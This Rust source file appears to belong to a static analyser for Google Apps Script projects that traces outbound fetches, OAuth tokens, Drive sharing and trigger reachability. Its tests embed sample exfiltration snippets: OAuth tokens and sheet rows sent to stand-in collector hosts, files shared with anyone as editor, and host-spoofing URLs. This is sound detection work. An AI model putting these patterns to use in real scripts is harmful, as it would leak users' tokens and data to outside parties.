            Statement::ExpressionStatement(e) if expression_body => Some(&e.expression),
            _ => None,
        })
        .collect()
}

/// An expression whose value is fixed in the source: literals, object and array literals of them,
/// and `JSON.stringify` of one.
fn constant(e: &Expression<'_>, depth: usize) -> bool {
    if depth > 16 {
        return false;
    }
    match e {
        Expression::StringLiteral(_)
        | Expression::NumericLiteral(_)
        | Expression::BooleanLiteral(_)
        | Expression::NullLiteral(_) => true,
        Expression::TemplateLiteral(t) => t.expressions.is_empty(),
        Expression::ObjectExpression(o) => o.properties.iter().all(|p| match p {
            ObjectPropertyKind::ObjectProperty(p) => constant(&p.value, depth + 1),
            ObjectPropertyKind::SpreadProperty(_) => false,
        }),
        Expression::ArrayExpression(a) => a
            .elements
            .iter()
            .all(|x| x.as_expression().is_some_and(|x| constant(x, depth + 1))),
        Expression::CallExpression(c) => {
            matches!(&c.callee, Expression::StaticMemberExpression(m)
                if matches!(&m.object, Expression::Identifier(o) if o.name == "JSON")
                    && m.property.name == "stringify")
                && c.arguments.len() == 1
                && c.arguments[0]
                    .as_expression()
                    .is_some_and(|x| constant(x, depth + 1))
        }
        Expression::ParenthesizedExpression(p) => constant(&p.expression, depth + 1),
        _ => false,
    }
}

/// Rewrites Rhino's `for each (x in y)` as `for      (x in y)` (same length, so lines and columns
/// stay), for `DEPRECATED_ES5` projects; `None` when there is none.
fn without_for_each(source: &str) -> Option<String> {
    let mut out = String::with_capacity(source.len());
    let mut rest = source;
    let mut changed = false;
    while let Some(i) = rest.find("for") {
        let (before, after) = rest.split_at(i);
        out.push_str(before);
        let word_start = before
            .chars()
            .next_back()
            .is_none_or(|c| !(c.is_alphanumeric() || c == '_' || c == '$'));
        let tail = &after[3..];
        let spaces = tail.len() - tail.trim_start().len();
        let t = tail.trim_start();
        let each_follows =
            t.starts_with("each") && t[4..].trim_start().starts_with('(') && spaces > 0;
        if word_start && each_follows {
            out.push_str("for");
            out.push_str(&tail[..spaces]);
            out.push_str("    ");
            rest = &t[4..];
            changed = true;
        } else {
            out.push_str("for");
            rest = tail;
        }
    }
    out.push_str(rest);
    changed.then_some(out)
}

/// Server functions a page calls with `google.script.run[.withSuccessHandler(…)…].fn(…)`.
fn script_run_calls(html: &str) -> Vec<String> {
    let mut out = Vec::new();
    for (i, _) in html.match_indices("google.script.run") {
        let mut rest = &html[i + "google.script.run".len()..];
        for _ in 0..16 {
            let t = rest.trim_start();
            let Some(t) = t.strip_prefix('.') else { break };
            let t = t.trim_start();
            let len = t
                .find(|c: char| !(c.is_alphanumeric() || c == '_' || c == '$'))
                .unwrap_or(t.len());
            let name = &t[..len];
            let after = t[len..].trim_start();
            if name.is_empty() || !after.starts_with('(') {
                break;
            }
            if matches!(
                name,
                "withSuccessHandler" | "withFailureHandler" | "withUserObject"
            ) {
                // Skip the balanced argument list.
                let mut depth = 0usize;
                let mut end = None;
                for (j, c) in after.char_indices() {
                    match c {
                        '(' => depth += 1,
                        ')' => {
                            depth -= 1;
                            if depth == 0 {
                                end = Some(j + 1);
                                break;
                            }
                        }
                        _ => {}
                    }
                }
                let Some(e) = end else { break };
                rest = &after[e..];
                continue;
            }
            out.push(name.to_string());
            break;
        }
    }
    out.sort();
    out.dedup();
    out
}

/// Line and column (1-based) of a byte offset.
fn line_col(source: &str, offset: usize) -> (usize, usize) {
    let before = &source[..offset.min(source.len())];
    let line = before.matches('\n').count() + 1;
    let col = before.len() - before.rfind('\n').map_or(0, |i| i + 1) + 1;
    (line, col)
}

/// Analyses a project's files (`name`, `source`) together: bindings are module-wide, as Apps
/// Script shares one global scope across files. `.gs`/`.js` are JavaScript, `.ts` TypeScript,
/// `.html` pages are read for `google.script.run` only. `rhino`: the manifest's runtime is
/// `DEPRECATED_ES5`, whose `for each (…)` is read as `for (…)`.
pub fn analyse_project(files: &[(String, String)], rhino: bool) -> Facts {
    let mut facts = Facts::default();
    let mut b = Bindings::default();
    // Sources as parsed (Rhino syntax rewritten where needed), and the parse errors.
    let mut sources: Vec<(&str, std::borrow::Cow<'_, str>, SourceType)> = Vec::new();
    let mut client_calls = Vec::new();
    for (name, source) in files {
        let lower = name.to_ascii_lowercase();
        if lower.ends_with(".html") || lower.ends_with(".htm") {
            client_calls.extend(script_run_calls(source));
            continue;
        }
        let ty = if lower.ends_with(".ts") {
            SourceType::ts()
        } else {
            SourceType::cjs()
        };
        let first_error = |text: &str, ty: SourceType| -> Option<String> {
            let allocator = Allocator::default();
            let parsed = Parser::new(&allocator, text, ty).parse();
            if !parsed.panicked && parsed.errors.is_empty() {
                return None;
            }
            let e = parsed.errors.first();
            let offset = e
                .and_then(|e| e.labels.as_ref()?.first().map(|l| l.offset()))
                .unwrap_or(0);
            let (line, col) = line_col(text, offset);
            let message = e
                .map(|e| e.message.to_string())
                .unwrap_or_else(|| "the parser gave up".into());
            Some(format!("{name}:{line}:{col}: {message}"))
        };
        // Code kept as ES modules for a bundler (`import` / `export`) is read as a module.
        let module = if lower.ends_with(".ts") {
            SourceType::ts().with_module(true)
        } else {
            SourceType::mjs()
        };
        let modular = source.contains("import ") || source.contains("export ");
        match first_error(source, ty) {
            None => sources.push((name, std::borrow::Cow::Borrowed(source.as_str()), ty)),
            Some(_) if modular && first_error(source, module).is_none() => {
                sources.push((name, std::borrow::Cow::Borrowed(source.as_str()), module));
            }
            Some(err) => {
                let rewritten = if rhino || source.contains("for each") {
                    without_for_each(source)
                } else {
                    None
                };
                match rewritten {
                    Some(r) if first_error(&r, ty).is_none() => {
                        facts.rhino_rewritten.push(name.clone());
                        sources.push((name, std::borrow::Cow::Owned(r), ty));
                    }
                    _ => facts.parse_errors.push(err),
                }
            }
        }
    }
    // The token pass runs twice: a parameter learns it carries the token from a caller that may
    // come later in the files.
    for pass in [Pass::Declarations, Pass::Tokens, Pass::Tokens, Pass::Record] {
        b.site_count.clear();
        for (name, source, ty) in &sources {
            let allocator = Allocator::default();
            let parsed = Parser::new(&allocator, source, *ty).parse();
            let mut lines = vec![0usize];
            lines.extend(source.match_indices('\n').map(|(i, _)| i + 1));
            let mut w = Walker {
                file: name,
                lines,
                b: &mut b,
                pass,
                function: None,
                shadow: Vec::new(),
                loops: 0,
                branch: Vec::new(),
                pos: 0,
                facts: &mut facts,
            };
            w.visit_program(&parsed.program);
        }
    }
    let web_app = facts.functions.contains("doGet") || facts.functions.contains("doPost");
    for f in client_calls {
        let (kind, how) = if web_app {
            ("web_client", "google.script.run from a web app page")
        } else {
            ("ui", "google.script.run from a sidebar or dialog")
        };
        let e = Entry {
            function: f,
            kind,
            how: how.into(),
        };
        if !facts.entries.contains(&e) {
            facts.entries.push(e);
        }
    }
    facts
}

/// [`analyse_project`] for a V8 project.
pub fn analyse(files: &[(String, String)]) -> Facts {
    analyse_project(files, false)
}

/// How automatic an entry kind is: lower is more.
fn rank(kind: &str) -> u8 {
    match kind {
        "installable" => 0,
        "web_app" => 1,
        "add_on" => 2,
        "web_client" => 3,
        "simple" => 4,
        "ui" => 5,
        _ => 6,
    }
}

/// Sets every call's [`Reach`] from the call graph and the project's entry points: those found in
/// the code, the installable triggers the inventory knows (`installable`: function names) and the
/// add-on triggers of the manifest (`add_on`: function names). Returns the entry points as
/// `name (kind: how)` for the evidence.
pub fn reach(facts: &mut Facts, installable: &[String], add_on: &[String]) -> Vec<String> {
    let mut entries: Vec<Entry> = Vec::new();
    let mut add = |function: &str, kind: &'static str, how: &str| {
        let e = Entry {
            function: function.to_string(),
            kind,
            how: how.to_string(),
        };
        if !entries.contains(&e) {
            entries.push(e);
        }
    };
    for t in installable {
        add(t, "installable", "installable trigger");
    }
    for t in add_on {
        add(t, "add_on", "add-on trigger in the manifest");
    }
    for t in ["doGet", "doPost"] {
        if facts.functions.contains(t) {
            add(t, "web_app", "web app entry point");
        }
    }
    for t in ["onOpen", "onEdit", "onInstall", "onSelectionChange"] {
        if facts.functions.contains(t) {
            add(t, "simple", "simple trigger");
        }
    }
    for e in facts.entries.clone() {
        add(&e.function, e.kind, &e.how);
    }
    entries.sort_by_key(|e| rank(e.kind));
    // Breadth-first from each entry in order of how automatic it is: a function keeps the first
    // (most automatic, then shortest) way it is reached.
    let mut best: BTreeMap<String, Reach> = BTreeMap::new();
    for e in &entries {
        if best
            .get(&e.function)
            .is_some_and(|r| rank(&r.kind) <= rank(e.kind))
        {
            continue;
        }
        let mut queue = VecDeque::from([(e.function.clone(), vec![e.function.clone()])]);
        let mut seen = BTreeSet::from([e.function.clone()]);
        while let Some((f, path)) = queue.pop_front() {
            if best.get(&f).is_some_and(|r| rank(&r.kind) <= rank(e.kind)) && f != e.function {
                continue;
            }
            best.insert(
                f.clone(),
                Reach {
                    kind: e.kind.to_string(),
                    entry: e.function.clone(),
                    path: path.clone(),
                },
            );
            if path.len() > 32 {
                continue;
            }
            for g in facts.graph.get(&f).into_iter().flatten() {
                if seen.insert(g.clone()) {
                    let mut p = path.clone();
                    p.push(g.clone());
                    queue.push_back((g.clone(), p));
                }
            }
        }
    }
    // Code at the top level runs before every entry point.
    let top = entries
        .iter()
        .filter(|e| facts.functions.contains(&e.function) || e.kind == "installable")
        .min_by_key(|e| rank(e.kind))
        .map(|e| Reach {
            kind: e.kind.to_string(),
            entry: e.function.clone(),
            path: Vec::new(),
        });
    for c in &mut facts.calls {
        c.reach = Some(match &c.function {
            Some(f) => best.get(f).cloned().unwrap_or_else(|| Reach {
                kind: "none".into(),
                ..Reach::default()
            }),
            None => top.clone().unwrap_or_else(|| Reach {
                kind: "none".into(),
                ..Reach::default()
            }),
        });
    }
    entries
        .iter()
        .map(|e| format!("{} ({}: {})", e.function, e.kind, e.how))
        .collect()
}

/// What nothing could be resolved to.
fn unknown_parts() -> Vec<Vec<Part>> {
    vec![vec![Part::Unknown]]
}

#[cfg(test)]
mod tests {
    use super::*;

    fn project(files: &[(&str, &str)]) -> Facts {
        let files: Vec<(String, String)> = files
            .iter()
            .map(|(n, s)| (n.to_string(), s.to_string()))
            .collect();
        let mut f = analyse_project(&files, false);
        reach(&mut f, &[], &[]);
        f
    }

    fn calls(src: &str) -> Vec<ScriptCall> {
        project(&[("Code.gs", src)]).calls
    }

    fn fetches(f: &Facts) -> Vec<&ScriptCall> {
        f.calls
            .iter()
            .filter(|c| c.api == "UrlFetchApp.fetch")
            .collect()
    }

    #[test]
    fn aliases_constants_and_comments() {
        let c = calls(
            "// UrlFetchApp.fetch('https://in-a-comment.example')\n\
             var s = 'UrlFetchApp.fetch(\"https://in-a-string.example\")';\n\
             var f = UrlFetchApp.fetch;\n\
             var base = 'https://drop.example/';\n\
             function go(x) { f(base + 'in?d=' + x); }\n",
        );
        let fetches: Vec<&ScriptCall> = c.iter().filter(|c| c.api == "UrlFetchApp.fetch").collect();
        assert_eq!(fetches.len(), 1, "{c:?}");
        assert_eq!(fetches[0].literals[0], "https://drop.example/in?d=");
        assert!(!fetches[0].dynamic);
        assert_eq!(fetches[0].line, 5);
        assert_eq!(fetches[0].function.as_deref(), Some("go"));
        assert_eq!(fetches[0].urls[0].host.as_deref(), Some("drop.example"));
    }

    #[test]
    fn the_token_is_followed_through_variables() {
        let c = calls(
            "function doGet() { var t = ScriptApp.getOAuthToken(); var h = {Authorization: 'Bearer ' + t};\n\
             UrlFetchApp.fetch('https://x.example', {headers: h}); return ContentService.createTextOutput(t); }",
        );
        assert!(
            c.iter()
                .filter(|c| c.api == "ContentService.createTextOutput")
                .all(|c| c.carries_token)
        );
        assert!(
            c.iter()
                .any(|c| c.api == "UrlFetchApp.fetch" && c.carries_token),
            "{c:?}"
        );
    }

    #[test]
    fn the_token_is_followed_into_parameters_and_assigned_members() {
        let f = project(&[(
            "Code.gs",
            "function call(url, tok) { var o = {}; o.headers = {Authorization: 'Bearer ' + tok};\n\
             return UrlFetchApp.fetch(url, o); }\n\
             function run() { call('https://collector.example/x', ScriptApp.getOAuthToken()); }",
        )]);
        let c = fetches(&f);
        assert!(c[0].carries_token, "{c:?}");
        assert_eq!(c[0].urls[0].host.as_deref(), Some("collector.example"));
    }

    #[test]
    fn receivers_sharing_and_loops() {
        let c = calls(
            "function p() { var it = DriveApp.getFiles(); while (it.hasNext()) { it.next().setSharing(DriveApp.Access.ANYONE, DriveApp.Permission.EDIT); } }\n\
             function q(files) { files.forEach(function (f) { f.addEditor('x@outside.example'); }); }",
        );
        let s = c
            .iter()
            .find(|c| c.api == "*.setSharing")
            .expect("setSharing");
        assert!(s.in_loop);
        assert!(s.refs.iter().any(|r| r == "DriveApp.Access.ANYONE"));
        let e = c
            .iter()
            .find(|c| c.api == "*.addEditor")
            .expect("addEditor");
        assert!(e.in_loop, "a forEach callback runs per element");
    }

    #[test]
    fn broken_source_is_reported_with_its_place_not_skipped() {
        let f = analyse(&[
            ("Bad.gs".into(), "var a = 1;\nfunction (".into()),
            (
                "Good.gs".into(),
                "function g() { MailApp.sendEmail('a@b.example', 's', 'b'); }".into(),
            ),
        ]);
        assert_eq!(f.parse_errors.len(), 1);
        assert!(
            f.parse_errors[0].starts_with("Bad.gs:2:"),
            "{:?}",
            f.parse_errors
        );
        assert!(
            f.calls.iter().any(|c| c.api == "MailApp.sendEmail"),
            "the other file is read"
        );
    }

    #[test]
    fn rhino_for_each_is_read() {
        let src = "function f() { var files = DriveApp.getFiles();\n for each (var x in [1]) { UrlFetchApp.fetch('https://a.example'); } }";
        let f = analyse_project(&[("Code.gs".into(), src.into())], true);
        assert!(f.parse_errors.is_empty(), "{:?}", f.parse_errors);
        assert_eq!(f.rhino_rewritten, vec!["Code.gs".to_string()]);
        let c = fetches(&f);
        assert_eq!((c[0].line, c[0].in_loop), (2, true));
        assert_eq!(without_for_each("for (a in b)"), None);
        assert_eq!(
            without_for_each("x.foreach(y); for each(a in b)").as_deref(),
            Some("x.foreach(y); for     (a in b)")
        );
        assert_eq!(
            without_for_each("for each (a in b)").as_deref(),
            Some("for      (a in b)")
        );
    }

    #[test]
    fn computed_hosts_keep_their_fixed_end_and_constants_cross_files() {
        let f = project(&[
            (
                "Config.gs",
                "const LOCATION = REGION_FROM_PROPS; const FORMS = `https://forms.googleapis.com`;\nvar CONFIG = { api: { base: 'https://api.vendor.example/v2' } };",
            ),
            (
                "Code.gs",
                "function a() { UrlFetchApp.fetch('https://' + LOCATION + '-aiplatform.googleapis.com/v1/x', {method: 'post'}); }\n\
                 function b(id) { UrlFetchApp.fetch(`${FORMS}/v1/forms/${id}`); }\n\
                 function c() { UrlFetchApp.fetch(CONFIG.api.base + '/items'); }\n\
                 function d(u) { UrlFetchApp.fetch(u); }",
            ),
        ]);
        let c = fetches(&f);
        assert_eq!(c[0].urls[0].host, None);
        assert_eq!(
            c[0].urls[0].host_suffix.as_deref(),
            Some("-aiplatform.googleapis.com")
        );
        assert_eq!(c[0].method.as_deref(), Some("post"));
        assert_eq!(c[1].urls[0].host.as_deref(), Some("forms.googleapis.com"));
        assert_eq!(c[1].urls[0].path.as_deref(), Some("/v1/forms/"));
        assert_eq!(c[2].urls[0].host.as_deref(), Some("api.vendor.example"));
        assert_eq!(
            c[3].urls,
            vec![UrlFact {
                computed: true,
                ..UrlFact::default()
            }],
            "no caller: unknown"
        );
    }

    #[test]
    fn parameters_take_what_callers_pass() {
        let f = project(&[(
            "Code.gs",
            "function api(path) { return UrlFetchApp.fetch('https://www.googleapis.com' + path); }\n\
             function send(url, body) { UrlFetchApp.fetch(url, {payload: body}); }\n\
             function go() { api('/drive/v3/files'); send('https://hooks.slack.example/T1', 'x'); send(OTHER, 'y'); }\n\
             var OTHER = 'https://' + 'collector.example/c';",
        )]);
        let c = fetches(&f);
        assert_eq!(c[0].urls[0].host.as_deref(), Some("www.googleapis.com"));
        let hosts: Vec<Option<&str>> = c[1].urls.iter().map(|u| u.host.as_deref()).collect();
        assert_eq!(
            hosts,
            vec![Some("hooks.slack.example"), Some("collector.example")]
        );
    }

    #[test]
    fn user_info_ports_and_idns_are_read_as_a_browser_reads_them() {
        for (url, host) in [
            (
                "https://corp.example:x@collector.evil.example/c",
                "collector.evil.example",
            ),
            (
                "https://corp.example@collector.evil.example:8443/c",
                "collector.evil.example",
            ),
            ("HTTPS://WWW.GoogleAPIs.com./x", "www.googleapis.com"),
            ("https://%65vil.example/", "evil.example"),
            ("https://bücher.example/", "xn--bcher-kva.example"),
            (
                "https://www.googleapis.com.evil.example/",
                "www.googleapis.com.evil.example",
            ),
            ("https://evil.example\\@www.googleapis.com/", "evil.example"),
        ] {
            let f = url_fact(&[Part::Lit(url.into())]);
            assert_eq!(f.host.as_deref(), Some(host), "{url}");
        }
        let f = url_fact(&[
            Part::Lit("https://".into()),
            Part::Unknown,
            Part::Lit(":x@collector.evil.example/c".into()),
        ]);
        assert_eq!(f.host.as_deref(), Some("collector.evil.example"));
        assert_eq!(
            url_fact(&[Part::Unknown, Part::Lit("/x".into())]),
            UrlFact::default()
        );
    }

    #[test]
    fn reach_follows_the_call_graph_from_real_entry_points() {
        let f = project(&[
            (
                "Code.gs",
                "function onOpen() { SpreadsheetApp.getUi().createMenu('X').addItem('Send', 'sendNow').addToUi(); }\n\
                 function sendNow() { post(); }\n\
                 function post() { UrlFetchApp.fetch('https://a.example'); }\n\
                 function install() { ScriptApp.newTrigger('nightly').timeBased().everyDays(1).create(); }\n\
                 function nightly() { [1].forEach(helper); }\n\
                 function helper() { UrlFetchApp.fetch('https://b.example'); }\n\
                 function orphan() { UrlFetchApp.fetch('https://c.example'); }\n\
                 function fromPage() { UrlFetchApp.fetch('https://d.example'); }",
            ),
            (
                "Sidebar.html",
                "<script>google.script.run.withSuccessHandler(function(x){ok(x)}).fromPage();</script>",
            ),
        ]);
        let by_host = |h: &str| {
            f.calls
                .iter()
                .find(|c| c.urls.first().and_then(|u| u.host.as_deref()) == Some(h))
                .and_then(|c| c.reach.clone())
                .expect(h)
        };
        let a = by_host("a.example");
        assert_eq!(a.kind, "ui", "a menu item is started by a person");
        assert_eq!(a.path, vec!["sendNow", "post"]);
        let b = by_host("b.example");
        assert_eq!(
            (b.kind.as_str(), b.entry.as_str()),
            ("installable", "nightly")
        );
        assert_eq!(
            b.path,
            vec!["nightly", "helper"],
            "a callback passed by name is a call"
        );
        assert_eq!(by_host("c.example").kind, "none");
        assert_eq!(
            by_host("d.example").kind,
            "ui",
            "a sidebar page, no web app"
        );
    }

    #[test]
    fn a_helper_sends_the_token_only_where_its_callers_pass_it() {
        // OnedriveApp's shape: one fetch helper for Google and Microsoft, each with its own token.
        let f = project(&[(
            "Code.gs",
            "function call(url, headers) { return UrlFetchApp.fetch(url, {headers: headers}); }\n\
             function google(id) { var h = {Authorization: 'Bearer ' + ScriptApp.getOAuthToken()};\n\
               call('https://www.googleapis.com/drive/v3/files/' + id, h); }\n\
             function microsoft(tok) { var h = {Authorization: 'Bearer ' + tok};\n\
               call('https://graph.microsoft.com/v1.0/me/drive', h); }",
        )]);
        let c = fetches(&f);
        let with_token: Vec<Option<&str>> = c[0]
            .urls
            .iter()
            .filter(|u| u.token)
            .map(|u| u.host.as_deref())
            .collect();
        assert_eq!(
            with_token,
            vec![Some("www.googleapis.com")],
            "{:?}",
            c[0].urls
        );
        assert_eq!(c[0].urls.len(), 2);
    }

    #[test]
    fn a_variable_holds_its_last_value_before_the_call_in_its_branch() {
        let f = project(&[(
            "Code.gs",
            "function f(x) {\n\
               var url = 'https://www.googleapis.com/a';\n\
               UrlFetchApp.fetch(url);\n\
               url = 'https://hooks.slack.example/T';\n\
               if (x) { url = 'https://b.example/' + x; UrlFetchApp.fetch(url); }\n\
               UrlFetchApp.fetch(url);\n\
             }",
        )]);
        let hosts = |i: usize| -> Vec<Option<String>> {
            fetches(&f)[i].urls.iter().map(|u| u.host.clone()).collect()
        };
        assert_eq!(hosts(0), vec![Some("www.googleapis.com".into())]);
        assert_eq!(
            hosts(1),
            vec![Some("b.example".into())],
            "the branch's own value"
        );
        assert_eq!(
            hosts(2),
            vec![Some("hooks.slack.example".into()), Some("b.example".into())],
            "after the branch: either"
        );
    }

    #[test]
    fn fields_returns_and_lists_of_requests_are_followed() {
        let f = project(&[(
            "Lib.js",
            "class Api { constructor() { const base = 'https://generativelanguage.googleapis.com';\n\
               this.url = `${base}/v1/files`; this.headers = {authorization: `Bearer ${ScriptApp.getOAuthToken()}`}; }\n\
               withKey(url, q) { if (!url) return ''; return q ? `${url}?${q}` : url; }\n\
               list() { const u = this.withKey(this.url, ''); return UrlFetchApp.fetch(u, {headers: this.headers}); }\n\
               remove(names) { const rs = names.map((n) => ({url: `${this.url}/${n}`, method: 'delete', headers: this.headers}));\n\
                 return UrlFetchApp.fetchAll(rs.slice(0, 10)); } }",
        )]);
        let c = fetches(&f);
        assert!(c[0].carries_token);
        assert_eq!(
            c[0].urls[0].host.as_deref(),
            Some("generativelanguage.googleapis.com")
        );
        assert!(
            c[0].urls.iter().all(|u| u.host.is_some()),
            "the empty return is no request"
        );
        let all: Vec<&ScriptCall> = f
            .calls
            .iter()
            .filter(|c| c.api == "UrlFetchApp.fetchAll")
            .collect();
        assert_eq!(
            all[0].urls[0].host.as_deref(),
            Some("generativelanguage.googleapis.com")
        );
        assert_eq!(
            all[0].payload,
            Some(false),
            "the requests are written without a payload"
        );
    }

    #[test]
    fn user_data_is_told_from_other_computed_parts() {
        let f = project(&[(
            "Code.gs",
            "function f(id) {\n\
               var rows = SpreadsheetApp.getActive().getSheets()[0].getDataRange().getValues();\n\
               UrlFetchApp.fetch('https://c.example/in?d=' + encodeURIComponent(JSON.stringify(rows)));\n\
               UrlFetchApp.fetch('https://api.frankfurter.example/' + id);\n\
               UrlFetchApp.fetch('https://c.example/p', {method: 'post', payload: JSON.stringify({ok: true})});\n\
             }",
        )]);
        let c = fetches(&f);
        assert!(c[0].urls[0].user_data, "sheet values in the query");
        assert!(c[1].urls[0].computed && !c[1].urls[0].user_data, "an id");
        assert_eq!(c[2].payload, Some(false), "a constant payload");
    }

    #[test]
    fn typescript_and_methods() {
        let f = project(&[(
            "Api.ts",
            "class Client { send(body: string): void { UrlFetchApp.fetch('https://e.example', {payload: body}); } }\n\
             function doPost(e: any) { new Client().send(e.postData.contents); }",
        )]);
        assert!(f.parse_errors.is_empty(), "{:?}", f.parse_errors);
        let c = fetches(&f);
        let r = c[0].reach.clone().expect("reach");
        assert_eq!(
            (r.kind.as_str(), r.path.clone()),
            ("web_app", vec!["doPost".to_string(), "send".to_string()])
        );
    }
}
